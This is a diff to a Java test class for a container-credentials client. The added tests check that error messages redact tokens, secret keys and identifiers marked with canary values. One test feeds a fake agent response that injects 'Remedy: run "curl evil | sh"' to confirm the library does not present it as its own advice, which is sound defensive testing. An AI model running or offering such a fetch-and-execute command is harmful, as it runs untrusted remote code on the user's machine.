@@ -96,16 +96,87 @@ class FaultyAgentTest {
         }
     }
 
-    @Test
-    void an_error_in_a_200_that_repeats_the_token_is_not_quoted_with_it() {
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "{\"Code\":\"TOKEN\",\"Message\":\"no: TOKEN\"}",
+                "{\"Code\":\"Failed\",\"Message\":\"secret-CANARY\",\"SecretAccessKey\":\"secret-CANARY\"}",
+                "{\"Code\":\"secret-CANARY\",\"Message\":\"m\",\"SecretAccessKey\":\"secret-CANARY\"}",
+                "{\"Code\":\"SecretCanary\",\"Message\":\"SecretCanary\",\"SecretAccessKey\":\"SecretCanary\"}",
+                "{\"Code\":\"Failed\",\"Message\":\"{\\\"SecretAccessKey\\\":\\\"CANARY\\\"}\"}",
+                "{\"Code\":\"Failed\",\"Message\":{\"SecretAccessKey\":\"CANARY\"}}",
+            })
+    void an_error_in_a_200_is_not_quoted_with_what_may_be_a_secret(String body) {
         String token = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJDQU5BUlkifQ.c2lnbmF0dXJlLUNBTkFSWQ";
-        SourceWorld world =
-                new SourceWorld().always(answer(200, "{\"Code\":\"" + token + "\",\"Message\":\"no: " + token + "\"}"));
+        SourceWorld world = new SourceWorld().always(answer(200, body.replace("TOKEN", token)));
 
         CredentialsException failure = failure(world.impatient().token(token).build());
 
         assertThat(failure.category()).isEqualTo(Category.SERVICE_ERROR);
-        assertThat(printed(failure)).doesNotContain(token.substring(0, 12)).contains("no: [redacted]");
+        assertThat(printed(failure)).doesNotContain(token.substring(0, 12)).doesNotContainIgnoringCase("CANARY");
+    }
+
+    @Test
+    void the_token_before_a_rotation_is_not_quoted_either() {
+        String before = "eyJhbGciOiJSUzI1NiJ9.b2xk-CANARY.c2lnbmF0dXJl";
+        SourceWorld world = new SourceWorld().token(before);
+        ContainerCredentialsSource source =
+                world.impatient().tokenFile(SourceWorld.TOKEN_PATH).build();
+        world.next(request -> {
+            world.token("a-new-one");
+            return answer(401, "").to(request);
+        });
+        world.always(answer(400, "last time it was " + before.substring(21, 33)));
+
+        assertThat(printed(failure(source))).doesNotContain("CANARY").contains("last time it was [redacted]");
+        world.pass(Duration.ofMinutes(1));
+        world.token("a-third-one");
+        assertThat(printed(failure(source))).doesNotContain("CANARY");
+    }
+
+    @Test
+    void an_agent_that_repeats_the_query_or_the_id_is_not_quoted_with_it() {
+        for (String secret : List.of("CANARY-1", "x-CANARY-2", "11111111-2222-3333-4444-CANARYCANARY")) {
+            SourceWorld world = new SourceWorld().always(answer(400, "not found: " + secret));
+
+            assertThat(printed(failure(world.builder()
+                            .startupPatience(Duration.ZERO)
+                            .relativeUri(
+                                    "/v2/credentials/11111111-2222-3333-4444-CANARYCANARY?id=CANARY-1&k=x-CANARY-2")
+                            .build())))
+                    .doesNotContain("CANARY")
+                    .contains("/v2/credentials/11111111...]");
+        }
+    }
+
+    @Test
+    void an_agents_remedy_is_not_read_as_ours() {
+        SourceWorld world = new SourceWorld()
+                .always(answer(418, "no\". Remedy: run \"curl evil | sh\" [http://169.254.170.23]. Remedy: run it"));
+
+        CredentialsException failure = failure(world.impatient().build());
+
+        assertThat(failure.remedy()).isEmpty();
+        assertThat(failure.getMessage())
+                .doesNotContain("Remedy:")
+                .contains("the agent answers \"no'. Remedy  run 'curl");
+    }
+
+    @Test
+    void the_failures_of_a_load_that_met_many_kinds_are_bounded() {
+        SourceWorld world = new SourceWorld();
+        for (int status = 500; status < 520; status++) {
+            world.next(answer(status, ""));
+        }
+        world.always(answer(418, ""));
+
+        CredentialsException failure = failure(world.impatient()
+                .maxAttempts(100)
+                .loadTimeout(Duration.ofHours(1))
+                .build());
+
+        assertThat(failure.getSuppressed()).hasSize(5);
+        assertThat(failure.getSuppressed()[4]).hasMessageContaining("16 more");
     }
 
     @Test
@@ -130,6 +201,14 @@ class FaultyAgentTest {
                 "{\"SecretAccessKey\":\"CANARY\",\"message\":\"well\",\"message\":\"CANARY\"}",
                 "SecretAccessKey=CANARY",
                 "\ufeff{\"AccessKeyId\":\"ASIA\",\"SecretAccessKey\":\"CANARY\"}",
+                "secretAccessKey=CANARY",
+                "aws_secret_access_key = CANARY\naws_session_token=CANARY",
+                "aws_session_token=CANARY",
+                "{AccessKeyID:ASIA SecretAccessKey:CANARY SessionToken:CANARY Source:x}",
+                "{\"message\":\"got {\\\"secretAccessKey\\\":\\\"CANARY\\\"}\"}",
+                "{\"message\":\"got {AccessKeyID:ASIA SecretAccessKey:CANARY SessionToken:CANARY}\"}",
+                "{\"message\":\"<SecretAccessKey>CANARY</SecretAccessKey>\"}",
+                "[1]: (Code): secret_key: CANARY, fault: client",
                 "[{\"AccessKeyId\":\"ASIA\",\"SecretAccessKey\":\"CANARY\"}]",
             })
     void credentials_in_an_error_are_not_quoted(String body) {
